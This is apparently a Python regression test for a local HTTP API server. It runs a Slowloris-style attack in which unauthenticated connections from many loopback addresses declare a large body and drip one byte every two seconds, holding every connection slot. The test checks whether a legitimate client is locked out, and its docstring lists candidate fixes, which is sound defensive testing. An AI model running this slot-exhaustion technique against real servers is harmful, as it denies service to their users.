#!/usr/bin/env python3
"""Slowloris once more, past the connection slots: headers complete, the
body dripped, and no token at all.

slots.c never takes the slot of a connection "inside a request"
(in_request, set by on_request's first call, i.e. as soon as the headers
are in) and libmicrohttpd drops a connection only after 10 s without a
byte.  A request that declares "Content-Length: 60000" (under
API_BODY_MAX, so not refused early) and then sends one byte of body every
2 s is inside a request for 30,000 s.  The token is checked only in
handle(), once the whole body is in: an unauthenticated stranger holds
the slot.  16 addresses (one IPv6 /60, or 16 IPv4 addresses; 127.0.0.0/8
stands in) x 16 connections (the per-client limit, inside the default
burst of 40) hold all 256, none of which may be evicted: every other
client is refused at accept (slots->refused) for as long as the drip goes
on.

Exits 1 while a 17th client (another address, a valid token) gets no
answer within 5 s on two tries while the attack runs; 0 once it does
(e.g. authenticate on the headers, before any body is read, and refuse
the request of a stranger at once; a deadline for a whole request --
headers and body -- not reset by each byte; a minimum body rate; only
authenticated requests count as "inside a request" for eviction)."""
import os
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402

h = harness.Apid()  # the defaults: --connections 256, 16 per address
HEAD = (b"POST /v1/tickets HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n\r\n{")
socks = []


def fill(first, count):
    """Opens 16 connections from each of <count> addresses from <first> on."""
    for a in range(first, first + count):
        for i in range(16):
            try:
                s = socket.create_connection(("127.0.0.1", h.port), timeout=2,
                                             source_address=("127.4.0.%d" % a, 0))
                s.sendall(HEAD)
                socks.append(s)
            except OSError:
                break


# All slots taken, then as the attacker would: more, until a newcomer is
# refused (any slot still "waiting for headers" is taken by the later ones).
fill(1, 16)
time.sleep(1)
fill(17, 2)
time.sleep(1)
fill(19, 1)
stop = threading.Event()


def drip():
    while not stop.is_set():
        for s in socks:
            try:
                s.sendall(b" ")
            except OSError:
                pass
        stop.wait(2)


threading.Thread(target=drip, daemon=True).start()
time.sleep(1.5)
answered = []
for attempt in range(2):
    t = time.time()
    try:
        st, _, _ = h.call("GET", "/v1/whoami", token=h.tok["bob"], timeout=5, src="127.0.0.2")
        answered.append("%d in %.2fs" % (st, time.time() - t))
    except OSError as e:
        print("victim attempt %d: no answer after %.1fs (%s)" % (attempt + 1, time.time() - t, e))
stop.set()
alive = 0
for s in socks:
    try:
        s.sendall(b" ")
        alive += 1
    except OSError:
        pass
print("attacker connections opened: %d from 19 addresses, %d still open, no token sent" % (len(socks), alive))
if not answered:
    h.fail("16 x 16 unauthenticated requests (from 19 addresses) dripping their bodies locked out every other client "
           "(2 x 5 s timeouts); a request inside its body is never evicted")
print("ok: the other client was answered (%s)" % ", ".join(answered))
